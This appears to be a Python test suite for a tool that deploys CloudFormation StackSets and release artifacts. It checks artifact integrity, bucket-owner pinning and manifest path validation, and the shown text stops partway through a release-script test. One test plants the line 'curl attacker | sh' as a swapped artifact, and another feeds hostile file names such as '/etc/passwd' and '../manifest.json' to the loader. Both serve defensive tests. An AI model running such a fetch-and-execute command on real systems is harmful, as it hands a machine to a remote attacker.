"""Tests of stacksets/deploy.py: the dry run, and real runs against a moto server on a loopback port.

Run through scripts/test-deploy.sh (starts nothing itself when MOTO_ENDPOINT is set, else its own moto_server).
Every deployment here deploys the real output of `make release` (SCANGATE_DIST, default dist/), which
scripts/test-deploy.sh builds first (or reuses when it was built from the sources as they are).
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import unittest
import unittest.mock
import urllib.request
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "scripts"))
import deploy  # noqa: E402
import release  # noqa: E402  (scripts/release.py)

ORG = "o-abcdefghij"
OU = "ou-ab12-cd34ef56"
REGIONS = ["us-east-1", "eu-west-1"]


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class MotoServer:
    def __init__(self) -> None:
        self.proc = None
        self.endpoint = os.environ.get("MOTO_ENDPOINT")

    def __enter__(self) -> str:
        if self.endpoint:
            return self.endpoint
        server = shutil.which("moto_server") or str(Path(sys.executable).parent / "moto_server")
        port = free_port()
        self.proc = subprocess.Popen(
            [server, "-H", "127.0.0.1", "-p", str(port)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        self.endpoint = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                urllib.request.urlopen(f"{self.endpoint}/moto-api/", timeout=1).close()
                return self.endpoint
            except OSError:
                time.sleep(0.2)
        self.proc.kill()
        raise RuntimeError("moto_server did not start within 30 s")

    def __exit__(self, *exc) -> None:
        if self.proc:
            self.proc.terminate()
            self.proc.wait(timeout=10)


def args_for(package_dir: Path, *extra: str) -> object:
    return deploy.parse_args(
        [
            "--prefix", "acme-scangate-art",
            "--regions", ",".join(REGIONS),
            "--ou", OU,
            "--org-id", ORG,
            "--admin-region", "us-east-1",
            "--package-dir", str(package_dir),
            "--skip-build",
            "--poll-seconds", "0.1",
            "--timeout", "60",
            "--parameter", "QualysPod=EU1",
            *extra,
        ]
    )


def real_dist() -> Path:
    """The output of `make release` these tests deploy; scripts/test-deploy.sh builds it before running them."""
    dist = Path(os.environ.get("SCANGATE_DIST") or deploy.ROOT / "dist")
    if not (dist / "manifest.json").is_file():
        raise AssertionError(f"{dist}/manifest.json missing: run `make release` (scripts/test-deploy.sh does)")
    return dist


def make_package(directory: Path, marker: str = "v1") -> None:
    """A copy of the real release in directory. marker "v1" is the build as it is; any other marker is a new build
    of the report-processor: its zip re-packed (the same bootstrap under another timestamp, so other bytes) and
    the manifest rewritten by scripts/release.py, as `make release` would after a processor change."""
    directory.mkdir(parents=True, exist_ok=True)
    dist = real_dist()
    manifest = json.loads((dist / "manifest.json").read_text())
    for name in ["manifest.json", "SHA256SUMS", *(a["file"] for a in manifest["artifacts"])]:
        shutil.copy2(dist / name, directory / name)
    if marker == "v1":
        return
    (processor,) = [a for a in manifest["artifacts"] if a["role"] == "report-processor"]
    zip_path = directory / processor["file"]
    with zipfile.ZipFile(zip_path) as archive:
        bootstrap = archive.read("bootstrap")
    stamp = 1980 + sum(marker.encode()) % 100
    info = zipfile.ZipInfo("bootstrap", date_time=(stamp, 1, 1, 0, 0, 0))
    info.external_attr = 0o100755 << 16
    with zipfile.ZipFile(zip_path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(info, bootstrap)
    specs = [f"{a['role']}:{a['arch']}:{a['target']}:{a['file']}" for a in manifest["artifacts"]]
    release.write_manifest(directory, specs)


def manifest_of(directory: Path) -> dict:
    return json.loads((directory / "manifest.json").read_text())


class DryRun(unittest.TestCase):
    def test_knows_the_stack_parameters(self) -> None:
        names = deploy.stack_parameter_names()
        self.assertLessEqual({"Name", "CodeBucket", "QualysPod", "MaxCritical", "EnablePublisher"}, names)
        self.assertLessEqual(set(deploy.ARTIFACTS), names)

    def test_prints_the_whole_deployment_and_calls_nothing(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            make_package(Path(tmp))
            out = io.StringIO()
            aws = deploy.Aws(dry_run=True, out=out)
            # An endpoint that refuses connections: any real call would fail the run.
            env = {"AWS_ENDPOINT_URL": "http://127.0.0.1:9", "AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x"}
            with unittest.mock.patch.dict(os.environ, env):
                deploy.deploy(args_for(Path(tmp)), aws)
            self.assertIsNone(aws._session, "a dry run must not create an AWS session")
        text = out.getvalue()
        lines = [line for line in text.splitlines() if line.startswith("aws ")]
        manifest = manifest_of(real_dist())
        self.assertEqual(len(manifest["artifacts"]), 4, "two Lambda zips and the runner for two architectures")
        for region in REGIONS:
            self.assertIn(f"aws cloudformation create-stack --region {region} --stack-name scangate-artifacts", text)
            for art in manifest["artifacts"]:
                key = f"scangate/{manifest['version']}/{art['sha256'][:16]}/{art['file']}"
                self.assertTrue(
                    any(f"put-object --region {region} --bucket acme-scangate-art-{region} --key {key} "
                        f"--expected-bucket-owner {deploy.DRY_RUN_ACCOUNT} " in line
                        and line.endswith(f"--body {Path(tmp) / art['file']}") for line in lines),
                    f"no upload of {art['file']} to {region}",
                )
        # Every S3 call names the bucket owner.
        s3_calls = [line for line in lines if line.startswith("aws s3api ")]
        self.assertTrue(s3_calls)
        for line in s3_calls:
            self.assertIn(f" --expected-bucket-owner {deploy.DRY_RUN_ACCOUNT}", line)
        (runner,) = [a for a in manifest["artifacts"] if (a["role"], a["arch"]) == ("runner", "x86_64")]
        self.assertIn(json.dumps({"ParameterKey": "RunnerCodeSha256", "ParameterValue": runner["sha256"]},
                                 separators=(",", ":")), text)
        self.assertIn("aws cloudformation create-stack-set --region us-east-1 --stack-set-name qualys-codebuild", text)
        self.assertIn("--permission-model SERVICE_MANAGED", text)
        self.assertIn('"ParameterKey":"QualysPod","ParameterValue":"EU1"', text)
        self.assertIn('{"ParameterKey":"ProcessorCodeVersion","ParameterValue":""}', text, "none in the StackSet's values")
        # One create-stack-instances per region, pinning that region's uploads (object versions differ per region).
        (processor,) = [a for a in manifest["artifacts"] if a["role"] == "report-processor"]
        processor_key = f"scangate/{manifest['version']}/{processor['sha256'][:16]}/{processor['file']}"
        for region in REGIONS:
            (line,) = [line for line in lines if line.startswith("aws cloudformation create-stack-instances ")
                       and f" --regions {region} " in line]
            self.assertIn(f'--deployment-targets \'{{"OrganizationalUnitIds":["{OU}"]}}\'', line)
            self.assertIn(json.dumps({"ParameterKey": "ProcessorCodeVersion",
                                      "ParameterValue": f"<VersionId of s3://acme-scangate-art-{region}/{processor_key}>"},
                                     separators=(",", ":")), line)
        # The owner of every artifact bucket is checked before anything is uploaded to it, and again before the roll-out.
        for region in REGIONS:
            head = f"aws s3api head-bucket --region {region} --bucket acme-scangate-art-{region} --expected-bucket-owner"
            checks = [i for i, line in enumerate(lines) if line.startswith(head)]
            first_put = next(i for i, line in enumerate(lines) if f"put-object --region {region} " in line)
            rollout = next(i for i, line in enumerate(lines) if " create-stack-set " in line)
            self.assertEqual(len(checks), 2, region)
            self.assertLess(checks[0], first_put)
            self.assertLess(checks[1], rollout)
            self.assertGreater(checks[1], max(i for i, line in enumerate(lines) if " put-object " in line))
        # one line per call, nothing else but comments
        self.assertTrue(all(line.startswith(("aws ", "# ")) for line in text.splitlines()), text)

    def test_rejects_bad_arguments(self) -> None:
        with contextlib.redirect_stderr(io.StringIO()):
            for bad in (["--ou", "nope"], ["--regions", "mars-1"], ["--parameter", "CodeBucket=x"], ["--org-id", "x"],
                        ["--parameter", "MaxCritcal=1"]):
                with self.subTest(bad=bad), self.assertRaises(SystemExit):
                    args_for(Path("/nonexistent"), *bad)


class ScriptedAws(deploy.Aws):
    """A real run (not a dry run) against canned answers: an existing StackSet whose instances exist in us-east-1
    only, versioned buckets of this account. Records every call like deploy.Aws does."""

    def call(self, service, region, op, files=None, shown=None, **params):
        self.calls.append(self.render(service, op, region, params, files or {}, shown or {}))
        answers = {
            "get_caller_identity": {"Account": "111122223333"},
            "describe_stacks": {"Stacks": [{"StackStatus": "CREATE_COMPLETE"}]},
            "update_stack": {"NoUpdates": True},
            "head_bucket": {},
            "put_object": {"VersionId": f"v-{region}-{params.get('Key', '').rsplit('/', 1)[-1]}"},
            "describe_stack_set": {"StackSet": {}},
            "update_stack_set": {"OperationId": "op-1"},
            "describe_stack_set_operation": {"StackSetOperation": {"Status": "SUCCEEDED"}},
            "list_stack_instances": {"Summaries": [{"OrganizationalUnitId": OU, "Region": "us-east-1"}]},
            "create_stack_instances": {"OperationId": "op-2"},
            "update_stack_instances": {"OperationId": "op-3"},
        }
        if op == "head_object":
            raise deploy.NotFound("head-object: 404")
        return answers[op]


class ExistingInstances(unittest.TestCase):
    def test_existing_instances_are_updated_and_new_ones_created_each_with_its_regions_versions(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            make_package(Path(tmp))
            aws = ScriptedAws(dry_run=False, out=io.StringIO())
            with contextlib.redirect_stderr(io.StringIO()):
                deploy.deploy(args_for(Path(tmp)), aws)
        instances = [c for c in aws.calls if re.search(r" (create|update)-stack-instances ", c)]
        self.assertEqual(len(instances), 2, instances)
        (update,) = [c for c in instances if " update-stack-instances " in c]
        (create,) = [c for c in instances if " create-stack-instances " in c]
        self.assertIn(" --regions us-east-1 ", update)
        self.assertIn(" --regions eu-west-1 ", create)
        for line, region in ((update, "us-east-1"), (create, "eu-west-1")):
            overrides = {o["ParameterKey"]: o["ParameterValue"]
                         for o in json.loads(shlex.split(line)[shlex.split(line).index("--parameter-overrides") + 1])}
            self.assertEqual(overrides["ProcessorCodeVersion"], f"v-{region}-report-processor-arm64.zip")
            self.assertEqual(overrides["GateCodeVersion"], f"v-{region}-pipeline-gate-arm64.zip")
            self.assertTrue(overrides["ProcessorCodeKey"].endswith("/report-processor-arm64.zip"), "key and version together")
        (stack_set,) = [c for c in aws.calls if " update-stack-set " in c]
        self.assertIn('{"ParameterKey":"ProcessorCodeVersion","ParameterValue":""}', stack_set)
        self.assertLess(aws.calls.index(stack_set), aws.calls.index(update), "the StackSet first, then the instances")


def full_parameters(template: Path) -> dict:
    """The template's Parameters by a full YAML load (CloudFormation's !tags read as plain nodes)."""
    import yaml

    class Loader(yaml.SafeLoader):
        pass

    Loader.add_multi_constructor("!", lambda loader, suffix, node: None)
    return yaml.load(template.read_text(), Loader=Loader)["Parameters"]  # noqa: S506 - SafeLoader subclass


def valid_value(spec: dict) -> str:
    """A value the parameter accepts that differs from its default where possible (so the pass-through shows)."""
    if "AllowedValues" in spec:
        others = [str(v) for v in spec["AllowedValues"] if str(v) != str(spec.get("Default"))]
        return (others or [str(spec["AllowedValues"][0])])[0]
    if spec.get("Type") == "Number":
        low = int(spec.get("MinValue", 0))
        high = int(spec.get("MaxValue", low + 10))
        return str(next((v for v in range(low, high + 1) if str(v) != str(spec.get("Default"))), low))
    examples = {
        # Parameters with a pattern and no allowed values: one valid example each is derived below; a new pattern
        # this list cannot satisfy fails the test with its name, so add an example here.
        r"vpc-": "vpc-0123456789abcdef0",
        r"https://": "https://example.com/qscanner.gz",
        r"[0-9a-f]{64}": "a" * 64,
        r"arn:aws": "arn:aws:sns:us-east-1:123456789012:alarms",
        r":signer:": "arn:aws:signer:us-east-1:123456789012:/signing-profiles/scangate/a1B2c3D4e5",
        r":iam::": "arn:aws:iam::123456789012:role/ci/builder",
        r":ecr:": "arn:aws:ecr:eu-west-1:123456789012:repository/team/app",
        r"A(RO|ID)A": "AROA0123456789ABCDEF",
    }
    pattern = spec.get("AllowedPattern")
    if not pattern:
        return "subnet-0123,subnet-4567" if "List" in spec.get("Type", "") else "set-by-test"
    for hint, value in {**examples, "": "scangate-test"}.items():
        if hint in pattern and re.fullmatch(pattern, value):
            return value
    for value in ("scangate-test", "acme-bucket", "a" * 64,
                  # keyless CI identities: repository and project paths, Azure DevOps ids, OIDC provider ARNs
                  "octo-org/app", "group/sub/app", "01234567-89ab-cdef-0123-456789abcdef", "org/project/scangate",
                  "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com",
                  "arn:aws:iam::123456789012:oidc-provider/gitlab.example.com",
                  "arn:aws:iam::123456789012:oidc-provider/vstoken.dev.azure.com/01234567-89ab-cdef-0123-456789abcdef"):
        if re.fullmatch(pattern, value):
            return value
    raise AssertionError(f"no example value for pattern {pattern!r}: add one to valid_value()")


class EveryStackParameter(unittest.TestCase):
    """Issue 16: every parameter of cfn/scangate.yaml can be set through the StackSet deploy, except the
    documented FIXED_PARAMETERS, which the script sets itself."""

    def test_the_reader_agrees_with_a_full_yaml_load(self) -> None:
        full = full_parameters(deploy.STACK_TEMPLATE)
        mine = deploy.stack_parameters()
        self.assertEqual(set(mine), set(full))
        for name, spec in full.items():
            with self.subTest(parameter=name):
                for key in ("Type", "Default", "AllowedPattern", "MinValue", "MaxValue"):
                    if key in spec:
                        self.assertEqual(mine[name].get(key), str(spec[key]), key)
                    else:
                        self.assertNotIn(key, mine[name])
                if "AllowedValues" in spec:
                    self.assertEqual(mine[name]["AllowedValues"], [str(v) for v in spec["AllowedValues"]])

    def test_fixed_parameters_exist_have_reasons_and_are_refused(self) -> None:
        names = set(full_parameters(deploy.STACK_TEMPLATE))
        self.assertLessEqual(set(deploy.FIXED_PARAMETERS), names, "FIXED_PARAMETERS names a parameter the stack lost")
        for name, reason in deploy.FIXED_PARAMETERS.items():
            self.assertGreater(len(reason), 20, f"{name}: say why the script sets it")
            with self.subTest(parameter=name), self.assertRaises(deploy.DeployError):
                deploy.parse_parameters([f"{name}=x"])

    def plan(self, *extra: str) -> str:
        with tempfile.TemporaryDirectory() as tmp:
            make_package(Path(tmp))
            out = io.StringIO()
            deploy.deploy(args_for(Path(tmp), *extra), deploy.Aws(dry_run=True, out=out))
        (line,) = [line for line in out.getvalue().splitlines() if line.startswith("aws cloudformation create-stack-set ")]
        return line

    def test_every_other_parameter_reaches_the_stack_set(self) -> None:
        full = full_parameters(deploy.STACK_TEMPLATE)
        settable = {name: valid_value(spec) for name, spec in full.items() if name not in deploy.FIXED_PARAMETERS}
        line = self.plan(*[a for name, value in settable.items() for a in ("--parameter", f"{name}={value}")])
        for name, value in settable.items():
            with self.subTest(parameter=name):
                self.assertIn(json.dumps({"ParameterKey": name, "ParameterValue": value}, separators=(",", ":")), line)
        for name in deploy.FIXED_PARAMETERS:
            self.assertIn(f'"ParameterKey":"{name}"', line, f"{name} is fixed: the script must set it")

    def test_a_parameter_added_to_the_template_is_settable_without_code_changes(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            grown = Path(tmp) / "scangate.yaml"
            text = deploy.STACK_TEMPLATE.read_text()
            self.assertIn("\nParameters:\n", text)
            grown.write_text(text.replace(
                "\nParameters:\n",
                '\nParameters:\n  BrandNewKnob:\n    Type: String\n    Default: "a"\n    AllowedValues: ["a", "b"]\n', 1))
            with unittest.mock.patch.object(deploy, "STACK_TEMPLATE", grown):
                self.assertEqual(deploy.parse_parameters(["BrandNewKnob=b"]), {"BrandNewKnob": "b"})
                with self.assertRaises(deploy.DeployError):
                    deploy.parse_parameters(["BrandNewKnob=c"])

    def test_values_are_checked_against_the_declaration(self) -> None:
        for bad in ("QualysPod=XX1", "MaxCritical=many", "MaxCritical=-2", "RefreshDays=90", "ScanVpcId=vpc-nothex",
                    "ScanStorageDriver=podman", "QScannerUrl=http://example.com/q.gz", "AlarmTopicArn=topic"):
            with self.subTest(value=bad), self.assertRaises(deploy.DeployError) as caught:
                deploy.parse_parameters([bad])
            self.assertIn(bad.split("=")[0], str(caught.exception))
        self.assertEqual(deploy.parse_parameters(["ScanSubnetIds=subnet-1,subnet-2", "MaxHigh=-1"]),
                         {"ScanSubnetIds": "subnet-1,subnet-2", "MaxHigh": "-1"})

    def test_parameters_file_in_both_formats_and_the_command_line_wins(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            plain = Path(tmp) / "plain.json"
            plain.write_text(json.dumps({"RunnerWaitSeconds": 300, "LifecycleKey": "report", "SecurityHubEnabled": False,
                                         "ScanSubnetIds": ["subnet-1", "subnet-2"]}))
            cfn = Path(tmp) / "cfn.json"
            cfn.write_text(json.dumps([{"ParameterKey": "AlarmTopicArn",
                                        "ParameterValue": "arn:aws:sns:us-east-1:123456789012:ops"}]))
            line = self.plan("--parameters-file", str(plain), "--parameter", "LifecycleKey=target")
            for name, value in (("RunnerWaitSeconds", "300"), ("LifecycleKey", "target"), ("SecurityHubEnabled", "false"),
                                ("ScanSubnetIds", "subnet-1,subnet-2")):
                self.assertIn(json.dumps({"ParameterKey": name, "ParameterValue": value}, separators=(",", ":")), line)
            self.assertIn('"ParameterKey":"AlarmTopicArn","ParameterValue":"arn:aws:sns:us-east-1:123456789012:ops"',
                          self.plan("--parameters-file", str(cfn)))
            bad = Path(tmp) / "bad.json"
            bad.write_text(json.dumps({"NoSuchParameter": "1"}))
            with contextlib.redirect_stderr(io.StringIO()), self.assertRaises(SystemExit):
                args_for(Path(tmp), "--parameters-file", str(bad))


class AgainstMoto(unittest.TestCase):
    server: MotoServer

    @classmethod
    def setUpClass(cls) -> None:
        cls.server = MotoServer()
        endpoint = cls.server.__enter__()
        cls.env = unittest.mock.patch.dict(
            os.environ,
            {
                "AWS_ENDPOINT_URL": endpoint,
                "AWS_ACCESS_KEY_ID": "testing",
                "AWS_SECRET_ACCESS_KEY": "testing",
                "AWS_SESSION_TOKEN": "testing",
                "AWS_REGION": "us-east-1",
                "AWS_MAX_ATTEMPTS": "1",
            },
        )
        cls.env.start()
        cls.tmp = tempfile.TemporaryDirectory()
        import boto3

        cls.boto3 = boto3
        # moto's CloudFormation creates the artifact bucket without its VersioningConfiguration: turn versioning on
        # as the real stack does, so that uploads get version ids (which the stack instances pin).
        real_ensure = deploy.ensure_artifact_bucket

        def ensure_versioned(aws, args, region, org_id):
            bucket = real_ensure(aws, args, region, org_id)
            boto3.client("s3", region_name=region).put_bucket_versioning(
                Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
            return bucket

        cls.versioned = unittest.mock.patch.object(deploy, "ensure_artifact_bucket", ensure_versioned)
        cls.versioned.start()

    @classmethod
    def tearDownClass(cls) -> None:
        cls.versioned.stop()
        cls.env.stop()
        cls.tmp.cleanup()
        cls.server.__exit__(None, None, None)

    def run_deploy(self, package: Path) -> deploy.Aws:
        aws = deploy.Aws(dry_run=False, out=io.StringIO())
        with contextlib.redirect_stderr(io.StringIO()):
            deploy.deploy(args_for(package), aws)
        return aws

    def stack_set_parameters(self) -> dict:
        cfn = self.boto3.client("cloudformation", region_name="us-east-1")
        found = cfn.describe_stack_set(StackSetName="qualys-codebuild")["StackSet"]
        return found, {p["ParameterKey"]: p["ParameterValue"] for p in found["Parameters"]}

    def test_deploy_then_redeploy_then_new_build(self) -> None:
        package = Path(self.tmp.name) / "package"
        make_package(package, "v1")

        first = self.run_deploy(package)
        manifest = manifest_of(package)
        for region in REGIONS:
            s3 = self.boto3.client("s3", region_name=region)
            keys = {o["Key"] for o in s3.list_objects_v2(Bucket=f"acme-scangate-art-{region}").get("Contents", [])}
            for art in manifest["artifacts"]:
                key = f"scangate/{manifest['version']}/{art['sha256'][:16]}/{art['file']}"
                self.assertIn(key, keys, f"{art['file']} not in {region}")
                body = s3.get_object(Bucket=f"acme-scangate-art-{region}", Key=key)["Body"].read()
                self.assertEqual(deploy.hashlib.sha256(body).hexdigest(), art["sha256"], "uploaded bytes differ")
        stack_set, params = self.stack_set_parameters()
        self.assertEqual(stack_set["PermissionModel"], "SERVICE_MANAGED")
        self.assertEqual(params["CodeBucket"], "acme-scangate-art")
        self.assertEqual(params["CodeBucketAppendRegion"], "true")
        self.assertEqual(params["QualysPod"], "EU1")
        key_v1 = params["ProcessorCodeKey"]
        self.assertRegex(key_v1, rf"^scangate/{re.escape(manifest['version'])}/[0-9a-f]{{16}}/report-processor-arm64\.zip$")
        (runner,) = [a for a in manifest["artifacts"] if (a["role"], a["arch"]) == ("runner", "x86_64")]
        self.assertTrue(params["RunnerCodeKey"].endswith(f"/{runner['sha256'][:16]}/{runner['file']}"), params)
        self.assertEqual(params["RunnerCodeSha256"], runner["sha256"])
        account = self.boto3.client("sts", region_name="us-east-1").get_caller_identity()["Account"]
        self.assertEqual(params["CodeBucketOwner"], account, "member accounts must read code from our buckets only")
        self.assertEqual(sum(" create-stack-set " in c for c in first.calls), 1)
        self.assertEqual(sum(" create-stack-instances " in c for c in first.calls), len(REGIONS), "one per region")
        self.assert_pinned(first.calls, params)

        # Same build again: nothing uploaded, the StackSet is updated instead of created.
        second = self.run_deploy(package)
        self.assertFalse([c for c in second.calls if " put-object " in c], "unchanged artifacts were uploaded again")
        self.assertFalse([c for c in second.calls if " create-stack-set " in c])
        self.assertEqual(sum(" update-stack-set " in c for c in second.calls), 1)

        # A new processor build: only it is uploaded (in each region) and the StackSet points at its new key.
        make_package(package, "v2")
        third = self.run_deploy(package)
        uploads = [c for c in third.calls if " put-object " in c]
        self.assertEqual(len(uploads), len(REGIONS), uploads)
        self.assertTrue(all("report-processor-arm64.zip" in c for c in uploads), uploads)
        _, params = self.stack_set_parameters()
        self.assertNotEqual(params["ProcessorCodeKey"], key_v1)
        # ...and every region's instances get that region's new key and object version (update-stack-instances where
        # list-stack-instances names them; moto lists no instance of an OU target, so here they are created again).
        self.assertEqual(sorted(re.search(r" --regions (\S+) ", c).group(1) for c in third.calls
                                if re.search(r" (create|update)-stack-instances ", c)), sorted(REGIONS))
        self.assert_pinned(third.calls, params)

    def assert_pinned(self, calls: list[str], params: dict) -> None:
        """Each region's stack instances are created or updated with overrides that pin the Lambda zips to the object
        versions uploaded to that region (read back from the buckets). moto does not materialize the instances of an
        OU target, so the overrides are read from the calls the deployment made."""
        self.assertEqual((params["ProcessorCodeVersion"], params["GateCodeVersion"]), ("", ""),
                         "the StackSet's own values pin nothing: each region has its own versions")
        for region in REGIONS:
            (line,) = [c for c in calls if re.search(r" (create|update)-stack-instances ", c) and f" --regions {region} " in c]
            overrides = {o["ParameterKey"]: o["ParameterValue"]
                         for o in json.loads(shlex.split(line)[shlex.split(line).index("--parameter-overrides") + 1])}
            s3 = self.boto3.client("s3", region_name=region)
            for key_param, version_param in (("ProcessorCodeKey", "ProcessorCodeVersion"), ("GateCodeKey", "GateCodeVersion")):
                with self.subTest(region=region, parameter=version_param):
                    self.assertEqual(overrides[key_param], params[key_param])
                    head = s3.head_object(Bucket=f"acme-scangate-art-{region}", Key=overrides[key_param])
                    self.assertTrue(head["VersionId"])
                    self.assertEqual(overrides[version_param], head["VersionId"], "the version uploaded to this region")

    def test_a_same_named_bucket_of_another_account_stops_the_rollout(self) -> None:
        """The attack: our artifact bucket in eu-west-1 was deleted and someone else registered the name. S3 answers
        HeadBucket (and every call) with ExpectedBucketOwner=<us> with 403 AccessDenied there; moto does not enforce
        the header, so the test makes the endpoint answer that way for that bucket. The deployment stops naming the
        bucket, before any upload to it and before the StackSet is created."""
        from botocore.awsrequest import AWSResponse

        class Empty:
            def stream(self, **_):
                return iter(())

        def squatted(request, **_) -> AWSResponse | None:
            if "squat-check-art-eu-west-1" in request.url:
                return AWSResponse(request.url, 403, {"x-amz-request-id": "test"}, Empty())
            return None

        package = Path(self.tmp.name) / "squat"
        make_package(package)
        session = self.boto3.Session()
        session.events.register("before-send.s3", squatted)
        aws = deploy.Aws(dry_run=False, out=io.StringIO())
        aws._session = session
        with self.assertRaises(deploy.DeployError) as caught, contextlib.redirect_stderr(io.StringIO()):
            deploy.deploy(args_for(package, "--prefix", "squat-check-art", "--artifact-stack-name", "squat-check-artifacts"), aws)
        self.assertIn("s3://squat-check-art-eu-west-1 (eu-west-1) is not a bucket of account", str(caught.exception))
        self.assertFalse([c for c in aws.calls if " put-object " in c and "squat-check-art-eu-west-1" in c])
        self.assertFalse([c for c in aws.calls if " create-stack-set " in c or " update-stack-set " in c])

    def test_missing_build_fails_with_the_path(self) -> None:
        empty = Path(self.tmp.name) / "empty"
        empty.mkdir(exist_ok=True)
        with self.assertRaises(deploy.DeployError) as caught:
            deploy.deploy(args_for(empty), deploy.Aws(dry_run=False, out=io.StringIO()))
        self.assertIn("manifest.json: missing", str(caught.exception))

    def test_every_s3_call_names_the_bucket_owner(self) -> None:
        """Issue 15 item 5: a same-named bucket in another account must not receive or serve our code. moto does
        not enforce x-amz-expected-bucket-owner, so the test proves every S3 request carries this account."""
        package = Path(self.tmp.name) / "owner"
        make_package(package)
        seen: list[tuple[str, str, str | None]] = []

        def record(request, **_) -> None:
            owner = request.headers.get("x-amz-expected-bucket-owner")
            seen.append((request.method, request.url, owner.decode() if isinstance(owner, bytes) else owner))

        session = self.boto3.Session()
        session.events.register("before-send.s3", record)
        aws = deploy.Aws(dry_run=False, out=io.StringIO())
        aws._session = session
        with contextlib.redirect_stderr(io.StringIO()):
            deploy.deploy(args_for(package, "--prefix", "owner-check-art", "--artifact-stack-name", "owner-check-artifacts"), aws)
        account = self.boto3.client("sts", region_name="us-east-1").get_caller_identity()["Account"]
        self.assertGreaterEqual(len([s for s in seen if s[0] == "PUT"]), 4 * len(REGIONS), seen)
        for method, url, owner in seen:
            self.assertEqual(owner, account, f"{method} {url} sent without ExpectedBucketOwner")

    def test_a_tampered_artifact_is_refused_before_anything_is_created(self) -> None:
        """The attack: after `make release`, someone swaps the runner in dist/ (or edits a byte of it). The deploy
        refuses it by the manifest's SHA-256, in the dry run and the real run, before any AWS call."""
        package = Path(self.tmp.name) / "tampered"
        make_package(package)
        (runner,) = [a for a in manifest_of(package)["artifacts"] if (a["role"], a["arch"]) == ("runner", "x86_64")]
        data = bytearray((package / runner["file"]).read_bytes())
        data[len(data) // 2] ^= 0x01
        (package / runner["file"]).write_bytes(bytes(data))
        for dry_run in (True, False):
            with self.subTest(dry_run=dry_run):
                aws = deploy.Aws(dry_run=dry_run, out=io.StringIO())
                with self.assertRaises(deploy.DeployError) as caught, contextlib.redirect_stderr(io.StringIO()):
                    deploy.deploy(args_for(package, "--prefix", "tamper-check-art", "--artifact-stack-name", "tamper-check-artifacts"), aws)
                self.assertIn(runner["file"], str(caught.exception))
                self.assertIn("does not match manifest.json", str(caught.exception))
                self.assertEqual(aws.calls, [], "nothing may be called for a tampered release")
        s3 = self.boto3.client("s3", region_name="us-east-1")
        self.assertFalse([b for b in s3.list_buckets()["Buckets"] if b["Name"].startswith("tamper-check-art")])

    def test_an_artifact_replaced_after_the_first_check_is_not_uploaded(self) -> None:
        """The bytes sent are the bytes checked: a swap between the up-front check and an upload is refused too."""
        package = Path(self.tmp.name) / "swapped"
        make_package(package)
        real = deploy.verified_bytes
        checked: list[str] = []

        def swap_after_first_round(art):
            checked.append(art.path.name)
            if len(checked) == len(manifest_of(package)["artifacts"]) + 1:  # first upload, after the up-front checks
                art.path.write_bytes(b"#!/bin/sh\ncurl attacker | sh\n")
            return real(art)

        aws = deploy.Aws(dry_run=False, out=io.StringIO())
        with unittest.mock.patch.object(deploy, "verified_bytes", swap_after_first_round), \
                self.assertRaises(deploy.DeployError) as caught, contextlib.redirect_stderr(io.StringIO()):
            deploy.deploy(args_for(package, "--prefix", "swap-check-art", "--artifact-stack-name", "swap-check-artifacts"), aws)
        self.assertIn("does not match manifest.json", str(caught.exception))
        self.assertFalse([c for c in aws.calls if " put-object " in c])


class Manifest(unittest.TestCase):
    """deploy.py takes file names only from the manifest, and only plain names inside the release directory."""

    def write(self, tmp: Path, **change) -> Path:
        make_package(tmp)
        manifest = manifest_of(tmp)
        manifest["artifacts"][0].update(change)
        (tmp / "manifest.json").write_text(json.dumps(manifest))
        return tmp

    def test_names_outside_the_release_directory_are_refused(self) -> None:
        for bad in ("../manifest.json", "/etc/passwd", "sub/dir.zip", ".hidden", ""):
            with self.subTest(file=bad), tempfile.TemporaryDirectory() as tmp:
                with self.assertRaises(deploy.DeployError) as caught:
                    deploy.load_release(self.write(Path(tmp), file=bad))
                self.assertIn(".artifacts[0].file", str(caught.exception))

    def test_a_missing_role_is_named(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            with self.assertRaises(deploy.DeployError) as caught:
                deploy.load_release(self.write(Path(tmp), role="something-else"))
            self.assertIn("ProcessorCodeKey", str(caught.exception))

    def test_a_bad_digest_is_refused(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            with self.assertRaises(deploy.DeployError) as caught:
                deploy.load_release(self.write(Path(tmp), sha256="ABC"))
            self.assertIn(".artifacts[0].sha256", str(caught.exception))


class ReleaseScript(unittest.TestCase):
    """scripts/release.py: what decides that dist/ is current, and reproducible zips."""

    def test_source_digest_sees_committed_new_and_edited_sources_but_not_ignored_files(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            repo = Path(tmp)
            subprocess.run(["git", "init", "-q", str(repo)], check=True)
            (repo / ".gitignore").write_text("/target\n")
            (repo / "Cargo.toml").write_text("[workspace]\n")
            (repo / "crates").mkdir()
            (repo / "crates" / "a.rs").write_text("fn a() {}\n")
            subprocess.run(["git", "-C", str(repo), "add", "."], check=True)
            with unittest.mock.patch.object(release, "ROOT", repo):
                first = release.source_digest()
                (repo / "target").mkdir()
                (repo / "target" / "out").write_text("build output")
                (repo / "README.md").write_text("not a source of the release")
                self.assertEqual(release.source_digest(), first, "ignored and unrelated files count")
                (repo / "crates" / "b.rs").write_text("fn b() {}\n")
                second = release.source_digest()
                self.assertNotEqual(second, first, "a new, untracked source file does not count")
                (repo / "crates" / "a.rs").write_text("fn a() { }\n")
                self.assertNotEqual(release.source_digest(), second, "an uncommitted edit does not count")

    def test_is_current_needs_the_same_sources_and_untouched_files(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            dist = Path(tmp)
